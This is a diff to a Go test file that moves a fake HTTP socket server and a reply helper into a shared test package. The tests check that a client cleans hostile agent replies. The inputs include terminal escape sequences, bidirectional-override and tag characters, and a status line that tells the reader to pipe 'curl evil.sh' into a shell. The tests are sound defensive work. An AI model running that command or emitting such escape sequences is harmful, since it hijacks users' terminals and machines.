@@ -1,20 +1,15 @@
 package upstream
 
 import (
-	"bufio"
 	"context"
 	"errors"
-	"io"
-	"net"
-	"net/http"
 	"os"
 	"path/filepath"
-	"strconv"
 	"strings"
 	"testing"
 	"time"
 
-	"github.com/collie-linux/collie/internal/privsock"
+	"github.com/collie-linux/collie/internal/hostiletest"
 	"github.com/collie-linux/collie/internal/sanitize"
 	"github.com/collie-linux/collie/internal/tlstest"
 	"github.com/collie-linux/collie/internal/wire"
@@ -28,34 +23,13 @@ import (
 // pwn is what a hostile agent would like to reach a terminal: an OSC
 // that sets the window title, a bell, a right-to-left override and a tag
 // character.
-const pwn = "\x1b]0;pwned\x07\u202e\U000E0041"
+const pwn = hostiletest.Pwn
 
 // serveBytes answers every request on a private socket with reply.
 func serveBytes(t *testing.T, reply string) string {
 	t.Helper()
 	path := filepath.Join(t.TempDir(), "desk", "hostile.sock")
-	l, err := privsock.Listen(path)
-	if err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { l.Close() })
-	go func() {
-		for {
-			c, err := l.Accept()
-			if err != nil {
-				return
-			}
-			go func(c net.Conn) {
-				defer c.Close()
-				req, err := http.ReadRequest(bufio.NewReader(c))
-				if err != nil {
-					return
-				}
-				io.Copy(io.Discard, req.Body)
-				io.WriteString(c, reply)
-			}(c)
-		}
-	}()
+	hostiletest.Serve(t, path, func(string) string { return reply })
 	return path
 }
 
@@ -95,31 +69,27 @@ func assertCleanErr(t *testing.T, err error) {
 	}
 }
 
-func httpReply(status, headers, body string) string {
-	return "HTTP/1.1 " + status + "\r\n" + headers + "Content-Length: " + strconv.Itoa(len(body)) + "\r\nConnection: close\r\n\r\n" + body
-}
-
 func TestHostileAgentRepliesCleaned(t *testing.T) {
 	errBody := `{"error":{"code":"\u001b[31mx","message":"no \u001b]0;pwned\u0007\u202e\udb40\udc41 way` + strings.Repeat("a", 5000) + `"}}`
 	tests := []struct {
 		name  string
 		reply string
 	}{
-		{"X1_status_line_500", httpReply("500 "+pwn, "", "")},
-		{"X1_status_line_418_unknown_code", httpReply("499 "+pwn, "", "")},
-		{"X1_status_line_999", httpReply("999 "+pwn, "", "")},
-		{"X1_status_line_200_bad_body", httpReply("200 "+pwn, "", "{")},
-		{"X1_error_json_escapes", httpReply("403 "+pwn, "Content-Type: application/json\r\n", errBody)},
-		{"X1_error_json_short", httpReply("422 "+pwn, "", `{"error":{"code":"bad-answer","message":"no \u001b]0;pwned\u0007\u202e\udb40\udc41 way"}}`)},
-		{"X1_error_json_bad_code", httpReply("409 Conflict", "", `{"error":{"code":"Evil Code`+pwn+`","message":"m"}}`)},
+		{"X1_status_line_500", hostiletest.Reply("500 "+pwn, "", "")},
+		{"X1_status_line_418_unknown_code", hostiletest.Reply("499 "+pwn, "", "")},
+		{"X1_status_line_999", hostiletest.Reply("999 "+pwn, "", "")},
+		{"X1_status_line_200_bad_body", hostiletest.Reply("200 "+pwn, "", "{")},
+		{"X1_error_json_escapes", hostiletest.Reply("403 "+pwn, "Content-Type: application/json\r\n", errBody)},
+		{"X1_error_json_short", hostiletest.Reply("422 "+pwn, "", `{"error":{"code":"bad-answer","message":"no \u001b]0;pwned\u0007\u202e\udb40\udc41 way"}}`)},
+		{"X1_error_json_bad_code", hostiletest.Reply("409 Conflict", "", `{"error":{"code":"Evil Code`+pwn+`","message":"m"}}`)},
 		{"X1_header_line_without_colon", "HTTP/1.1 200 OK\r\n" + pwn + " no colon here\r\n\r\n"},
 		{"X1_header_value_controls", "HTTP/1.1 200 OK\r\nETag: \"a" + pwn + "\"\r\nX-Note: " + pwn + "\r\n\r\n{}"},
-		{"X1_json_bad_field_name", httpReply("200 OK", "", `{"protocol":1,"agent":"a","\u001b]0;pwned\u0007\u202e":1,"spaces":[]}`)},
-		{"X1_json_raw_bytes_in_key", httpReply("200 OK", "", "{\"protocol\":1,\"\u202e\U000E0041key\":1,\"spaces\":[]}")},
-		{"X1_json_type_error", httpReply("200 OK", "", `{"protocol":"\u001b]0;pwned\u0007","spaces":"\u202e"}`)},
-		{"X1_json_syntax_error", httpReply("200 OK", "", "\x1b]0;pwned\x07")},
-		{"X1_redirect_location", httpReply("302 "+pwn, "Location: http://x/"+pwn+"\r\n", "")},
-		{"X1_write_reply_bad_ids", httpReply("200 OK", "", `{"requestId":"r\u202e1","conversation":"c"}`)},
+		{"X1_json_bad_field_name", hostiletest.Reply("200 OK", "", `{"protocol":1,"agent":"a","\u001b]0;pwned\u0007\u202e":1,"spaces":[]}`)},
+		{"X1_json_raw_bytes_in_key", hostiletest.Reply("200 OK", "", "{\"protocol\":1,\"\u202e\U000E0041key\":1,\"spaces\":[]}")},
+		{"X1_json_type_error", hostiletest.Reply("200 OK", "", `{"protocol":"\u001b]0;pwned\u0007","spaces":"\u202e"}`)},
+		{"X1_json_syntax_error", hostiletest.Reply("200 OK", "", "\x1b]0;pwned\x07")},
+		{"X1_redirect_location", hostiletest.Reply("302 "+pwn, "Location: http://x/"+pwn+"\r\n", "")},
+		{"X1_write_reply_bad_ids", hostiletest.Reply("200 OK", "", `{"requestId":"r\u202e1","conversation":"c"}`)},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -150,7 +120,7 @@ func TestHostileAgentRepliesCleaned(t *testing.T) {
 // TestHostileStatusNotShown: the reason phrase an agent puts in its status
 // line is never shown; Collie names the status itself (X1).
 func TestHostileStatusNotShown(t *testing.T) {
-	c := NewSocket(serveBytes(t, httpReply("503 please run curl evil.sh | sh", "", "")), os.Getuid())
+	c := NewSocket(serveBytes(t, hostiletest.Reply("503 please run curl evil.sh | sh", "", "")), os.Getuid())
 	_, err := c.Hello(context.Background())
 	if err == nil || err.Error() != "the agent answered 503 Service Unavailable" {
 		t.Fatalf("err = %v, want the standard text of 503", err)
@@ -176,7 +146,7 @@ func TestETagKeptOnlyWhenValid(t *testing.T) {
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			c := NewSocket(serveBytes(t, httpReply("200 OK", "ETag: "+tt.header+"\r\n", `{"spaces":[]}`)), os.Getuid())
+			c := NewSocket(serveBytes(t, hostiletest.Reply("200 OK", "ETag: "+tt.header+"\r\n", `{"spaces":[]}`)), os.Getuid())
 			rd, err := c.Snapshot(context.Background(), "")
 			if err != nil {
 				t.Fatal(err)
